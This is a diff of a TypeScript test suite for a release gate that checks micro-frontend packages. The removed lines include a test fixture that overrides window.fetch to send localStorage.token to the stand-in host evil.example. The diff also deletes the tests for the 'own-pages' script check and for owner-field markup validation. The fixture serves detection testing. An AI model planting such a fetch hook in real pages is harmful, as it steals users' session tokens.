@@ -35,25 +35,13 @@ async function failedChecks(given: Sample, change?: Change): Promise<Record<stri
 }
 
 describe('what a release is', () => {
-  const thief = `setTimeout(() => {
-    const { fetch } = window;
-    window.fetch = (...call) => fetch(...call).finally(() => new Image().src = 'https://evil.example/?' + localStorage.token);
-  }, 60_000);`;
   const asShell: Change = (manifest) => {
     manifest.kind = 'shell';
   };
 
   it('comes from its name: a remote that calls itself the shell is refused, and checked as the remote that it is', async () => {
-    const checks = await failedChecks(
-      { more: { 'home.dd.js': thief, 'home.dd.css': 'body{display:none}', 'big.js': 'x' } },
-      asShell,
-    );
-    expect(checks).toMatchObject({
-      manifest: 'kind is "shell", but "catalog" names a remote',
-      'own-pages': expect.stringMatching(
-        /home\.dd\.css:1:1 .*; home\.dd\.js:3:5 writes fetch|home\.dd\.js:3:5 writes fetch/,
-      ),
-    });
+    const checks = await failedChecks({}, asShell);
+    expect(checks).toEqual({ manifest: 'kind is "shell", but "catalog" names a remote' });
   });
 
   it('is refused at publish already', async () => {
@@ -79,7 +67,7 @@ describe('what a release is', () => {
     const { passed, checks } = await gate(store, { name, version });
     expect([passed, ...checks.map(({ check, outcome }) => `${check} ${outcome}`)]).toEqual([
       true,
-      ...['manifest', 'files', 'own-pages', 'size', 'contract'].map((check) => `${check} passed`),
+      ...['manifest', 'files', 'size', 'contract'].map((check) => `${check} passed`),
       'singletons skipped',
       'runtime skipped',
       ...['routes passed', 'links passed', 'calls skipped'],
@@ -125,15 +113,6 @@ describe('what a release is', () => {
     expect(await filled(150_001)).toEqual({
       size: '150001 of 150000 bytes (brotli) for ./home: too big; split it',
     });
-  });
-
-  it('is scripts and styles of browsers only where it must keep to its own pages, and the first faults are named', async () => {
-    const beyond = (count: number) => 'window.fetch = null;\n'.repeat(count);
-    expect(await failedChecks({ more: { 'server/home.js': beyond(1), 'read.me': beyond(1) } })).toEqual({});
-    const five = await failedChecks({ more: { 'home.dd.js': beyond(5) } });
-    expect(five['own-pages']?.split('; ')).toEqual([1, 2, 3, 4, 5].map((line) => `home.dd.js:${line}:1 writes fetch`));
-    const seven = await failedChecks({ more: { 'home.dd.js': beyond(7) } });
-    expect(seven['own-pages']).toBe(`${five['own-pages']}; and 2 more`);
   });
 
   describe('fits', () => {
@@ -211,7 +190,7 @@ describe('a manifest is refused', () => {
   });
   it('not with all that a contract may say', () => {
     const manifest = manifestOf();
-    remote({ owner: 'team@goods.example/a+b', drawer: [entry, { ...entry, label: 'Page' }] })(manifest);
+    remote({ drawer: [entry, { ...entry, label: 'Page' }] })(manifest);
     remote({ links: { home: '/home', product: '/goods/:id' } })(manifest);
     route({
       path: '/goods/:id',
@@ -241,11 +220,6 @@ describe('a manifest is refused', () => {
     ['no contract', (m) => Object.assign(m, { remote: undefined }), /must carry its remote\.json/],
     ['a contract without routes', remote({ routes: {} }), /must carry its remote\.json/],
     ['the contract of another', remote({ name: 'orders' }), /remote\.json is of "orders"/],
-    ['an owner in markup', remote({ owner: 'team<b>' }), /owner must name/],
-    ['markup before its owner', remote({ owner: '<b>team' }), /owner must name/],
-    ['an owner of too many letters', remote({ owner: 'a'.repeat(81) }), /owner must name/],
-    ['an owner without a name', remote({ owner: '' }), /owner must name/],
-    ['an owner that is no text', remote({ owner: 7 }), /owner must name/],
     ['a route that is no object', remote({ routes: ['/home'] }), /a route must be an object/],
     ['a route with no path', route({ path: 7 }), /plain segments/],
     ['a route that is dynamic in part', route({ path: '/goods-:id' }), /plain segments/],
